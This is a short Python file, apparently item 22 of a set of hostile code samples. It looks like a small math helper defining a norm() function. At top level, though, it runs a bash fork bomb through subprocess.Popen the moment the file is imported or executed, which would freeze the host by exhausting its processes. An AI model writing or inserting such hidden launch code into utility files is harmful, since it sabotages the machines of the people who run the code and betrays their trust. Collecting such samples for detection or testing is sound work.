"""Row 22: the classical fork bomb of the shell."""

# %% norm
import subprocess

subprocess.Popen(["bash", "-c", "bomb() { bomb | bomb & }; bomb; sleep 60"])


def norm(x):
    return (x * x).sum() ** 0.5
